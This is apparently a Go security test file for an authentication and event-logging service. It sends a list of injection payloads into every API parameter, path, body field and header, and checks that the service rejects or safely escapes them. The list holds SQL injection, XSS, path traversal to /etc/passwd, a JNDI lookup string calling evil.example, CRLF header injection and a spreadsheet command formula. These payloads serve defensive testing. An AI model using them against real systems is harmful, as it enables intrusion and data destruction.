package main

import (
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/url"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"gatehouse/authsvc"
	"gatehouse/authsvc/rest"
)

// nasty are texts that mean something to databases, browsers, logs or file systems.
var nasty = []string{
	`' OR '1'='1`, `'; DROP TABLE users; --`, `" OR 1=1 --`, `1; SELECT pg_sleep(5)`, `\'; --`, `%`, `_`, `!%`, `') UNION SELECT password_hash FROM users --`, `${jndi:ldap://evil.example/a}`,
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `{{7*7}}`, `javascript:alert(1)`, `</script><svg/onload=alert(1)>`, `../../etc/passwd`, "a\r\nSet-Cookie: x=y",
	"\u202Eevil", "\ufeff", "\u00e9\u0301", strings.Repeat("A", 5000), "=cmd|'/c calc'!A1",
}

// TestNastyParameters puts them into every parameter and every path: none of them is an error of ours, and none finds more than it says.
func TestNastyParameters(t *testing.T) {
	s := newScene(t)
	b, who := s.caller("global")
	tables := func() string {
		var out []string
		for _, table := range []string{"users", "companies", "api_keys", "memberships", "settings", "personal_tokens", "email_domains"} {
			var n int
			if err := s.store.DB().QueryRow(t.Context(), "SELECT COUNT(*) FROM "+table).Scan(&n); err != nil {
				t.Fatal(err)
			}
			out = append(out, fmt.Sprint(table, n))
		}
		return strings.Join(out, " ")
	}
	before := tables()
	raw := []string{"%00", "%ff", "a%00b", "%c3%28", "%27%20OR%201=1"}
	for _, text := range nasty {
		raw = append(raw, url.QueryEscape(text))
	}
	for _, d := range rest.Describe() {
		if d.Method == http.MethodGet {
			path := s.fixture(strings.NewReplacer("{name}", "x").Replace(d.Path), &who)
			for _, p := range d.Params {
				for _, text := range raw {
					r := b.ask(d.Method, path+"?"+p.Name+"="+text, "")
					if r.status >= 500 {
						t.Errorf("%s?%s=%s: %d %s", d.Path, p.Name, text, r.status, r.body)
					}
					if rows, ok := r.field("rows").([]any); ok && p.Name == "q" && d.Path != "/api/v1/audit" && d.Path != "/api/v1/errors" && len(rows) > 0 && text != url.QueryEscape("_") {
						t.Errorf("%s?q=%s finds %d rows", d.Path, text, len(rows))
					}
				}
			}
		}
		for _, hole := range regexp.MustCompile(`\{[a-z]+\}`).FindAllString(d.Path, -1) {
			for _, text := range raw {
				text = strings.ReplaceAll(strings.ReplaceAll(text, "+", "%20"), "%2F", "x")
				path := s.fixture(strings.ReplaceAll(strings.ReplaceAll(d.Path, hole, text), "{name}", "x"), &authsvc.User{})
				if strings.Contains(d.Path, "{user}") || strings.Contains(d.Path, "{key}") || strings.Contains(d.Path, "{domain}") {
					before = tables() // the fixture adds to them
				}
				if r := b.ask(d.Method, path, "{}"); r.status < 400 || r.status >= 500 {
					t.Errorf("%s %s: %d %s", d.Method, path, r.status, r.body)
				}
				if after := tables(); after != before {
					t.Errorf("%s %s changes the tables:\n%s\n%s", d.Method, path, before, after)
				}
			}
		}
	}
}

// TestNastyTexts puts them into every text of every body. They are refused, or stored and given back as they are, as JSON and as nothing else.
func TestNastyTexts(t *testing.T) {
	s := newScene(t)
	b, who := s.caller("global")
	for _, d := range rest.Describe() {
		if d.Body == nil || strings.HasPrefix(d.Path, "/api/v1/auth/") && d.Path != "/api/v1/auth/register" {
			continue // those below
		}
		i := slices.IndexFunc(scenarios, func(sc scenario) bool { return sc.pattern() == d.Method+" "+d.Path })
		for name, kind := range fieldsOf(d.Body) {
			for _, text := range nasty {
				value, takesText := filled(kind, text)
				if !takesText {
					break
				}
				method, address, body := s.request(&scenarios[i], &who)
				var fields map[string]any
				if err := json.Unmarshal([]byte(body+strings.Repeat("{}", 1-min(1, len(body)))), &fields); err != nil {
					t.Fatal(err)
				}
				fields[name] = value
				r := b.ask(method, address, jsonOf(fields))
				if strings.Contains(d.Path, "/sessions") {
					b, who = s.caller("global") // for it ended b's session
				}
				if r.status == 401 || r.status >= 500 || r.header.Get("X-Content-Type-Options") != "nosniff" || r.body != "" && !strings.HasPrefix(r.header.Get("Content-Type"), "application/json") ||
					strings.Contains(fmt.Sprint(r.header), "Set-Cookie: x=y") {
					t.Errorf("%s %s, %s=%q: %d %v %s", method, d.Path, name, text, r.status, r.header, r.body)
				}
				as := []string{text, strings.Join(strings.Fields(text), " "), strings.ReplaceAll(text, "\r\n", "\n")}
				if got, shown := r.field(name).(string); r.status < 300 && shown && !slices.Contains(as, got) && name != "value" && name != "domain" {
					t.Errorf("%s %s, %s=%q is given back as %q", method, d.Path, name, text, got)
				}
			}
		}
	}
	for _, text := range nasty {
		stranger := s.browser()
		stranger.headers = []string{"User-Agent", strings.NewReplacer("\r", "", "\n", "").Replace(text)}
		if r := stranger.try(text, text); r.status != 401 {
			t.Errorf("signing in as %q: %d %s", text, r.status, r.body)
		}
		stranger.want(401, http.MethodPost, "/api/v1/auth/token", jsonOf(map[string]any{"login": text, "password": text, "code": text}))
		stranger.want(401, http.MethodPost, "/api/v1/auth/refresh", jsonOf(map[string]any{"refresh_token": text}))
		for _, header := range []string{"Authorization", "X-API-Key", "Cookie", "X-CSRF-Token"} {
			value := strings.NewReplacer("\r", "", "\n", "").Replace(text)
			if r := s.browser().ask(http.MethodGet, "/api/v1/me", "", header, value); r.status != 401 {
				t.Errorf("%s: %s: %d %s", header, value, r.status, r.body)
			}
		}
	}
	for _, path := range []string{"/api/v1/audit?limit=500", "/api/v1/users", "/api/v1/companies", "/api/v1/keys", "/api/v1/me/tokens"} {
		r := b.want(200, http.MethodGet, path, "")
		if !strings.HasPrefix(r.header.Get("Content-Type"), "application/json") || r.header.Get("X-Content-Type-Options") != "nosniff" || !json.Valid([]byte(r.body)) {
			t.Errorf("%s: %v", path, r.header)
		}
	}
	if check := b.want(200, http.MethodGet, "/api/v1/audit/verify", ""); check.field("broken") != nil {
		t.Errorf("the audit trail: %s", check.body)
	}
}

// filled is a value of a body's field in which every text is the one given; takesText: there is any.
func filled(kind reflect.Type, text string) (value any, takesText bool) {
	switch kind.Kind() {
	case reflect.Pointer:
		return filled(kind.Elem(), text)
	case reflect.String:
		return text, true
	case reflect.Slice:
		if kind.Elem().Kind() == reflect.Uint8 { // JSON of any kind
			return map[string]any{"id": text, "type": text, "response": map[string]any{"clientDataJSON": text, text: text}}, true
		}
		one, takesText := filled(kind.Elem(), text)
		return []any{one, one}, takesText
	case reflect.Struct:
		fields := map[string]any{}
		for name, field := range fieldsOf(kind) {
			if one, takes := filled(field, text); takes {
				fields[name], takesText = one, true
			}
		}
		return fields, takesText
	case reflect.Map:
		one, takesText := filled(kind.Elem(), text)
		return map[string]any{text: one}, takesText
	}
	return nil, false
}

// TestNastyEvents sends them as events, in every field, and asks the viewer's routes for them in every parameter.
func TestNastyEvents(t *testing.T) {
	s := newScene(t)
	b, _ := s.caller("global")
	_, secret := s.people.key(s.beta.ID, authsvc.ScopeIngest|authsvc.ScopeRead)
	program := s.program("X-API-Key", secret)
	fields := []string{"EventType", "UserName", "ComputerName", "Domain", "SID", "IPAddress", "PublicIP", "LogonId", "LogonType", "Status", "SubStatus", "SourceHost", "RecordID", "Channel", "Provider", "AgentVersion", "Timestamp", "retry"}
	sent := 0
	for _, text := range nasty {
		for _, field := range append(fields, text) {
			event := map[string]any{"EventType": "Logon", "UserName": "u", "ComputerName": "c", "Timestamp": time.Now().UTC().Format(time.RFC3339)}
			event[field] = text
			for _, path := range []string{"/api/log_event", "/api/v1/events"} {
				r := program.ask(http.MethodPost, path, jsonOf(event))
				if r.status >= 500 || !json.Valid([]byte(r.body)) || !strings.HasPrefix(r.header.Get("Content-Type"), "application/json") || r.header.Get("X-Content-Type-Options") != "nosniff" ||
					!strings.Contains(r.header.Get("Content-Security-Policy"), "default-src 'none'") {
					t.Errorf("%s with %s=%q: %d %v %s", path, field, text, r.status, r.header, r.body)
				}
				if r.status == http.StatusCreated {
					sent++
				}
			}
		}
	}
	if sent < len(nasty) {
		t.Errorf("%d events were taken: the test shows nothing", sent)
	}
	if err := s.writer.Flush(t.Context()); err != nil {
		t.Fatal(err)
	}
	day := time.Now().UTC()
	base := url.Values{"company": {"Beta"}, "from": {day.AddDate(0, 0, -1).Format(time.DateOnly)}, "to": {day.AddDate(0, 0, 1).Format(time.DateOnly)}}
	params := []string{"company", "from", "to", "at", "user", "computer", "site", "type", "q", "group_by", "split", "timezone", "format", "limit", "cursor", "sort", "order", "elevated", "unknown"}
	for i := range scenarios {
		method, path, _ := strings.Cut(scenarios[i].route, " ")
		if method != http.MethodGet || path != "/api/v1/events" && !strings.HasPrefix(path, "/api/v1/reports/") || strings.Contains(path, "{") {
			continue
		}
		for _, param := range params {
			for _, text := range nasty {
				q := maps.Clone(base)
				q.Set(param, text)
				r := b.ask(http.MethodGet, path+"?"+q.Encode(), "")
				if r.status >= 500 || !json.Valid([]byte(r.body)) || strings.Contains(fmt.Sprint(r.header), "Set-Cookie: x=y") {
					t.Errorf("%s?%s=%q: %d %s", path, param, text, r.status, r.body)
				}
			}
		}
		// All of what was stored, in both forms: as JSON no page, as CSV a file.
		for _, format := range []string{"json", "csv"} {
			q := maps.Clone(base)
			q.Set("format", format)
			r := b.ask(http.MethodGet, path+"?"+q.Encode(), "")
			if kind := r.header.Get("Content-Type"); r.status < 300 && !strings.HasPrefix(kind, "application/json") && !strings.HasPrefix(kind, "text/csv") || r.status >= 500 || r.header.Get("X-Content-Type-Options") != "nosniff" {
				t.Errorf("%s as %s: %d %v", path, format, r.status, r.header)
			}
		}
	}
}
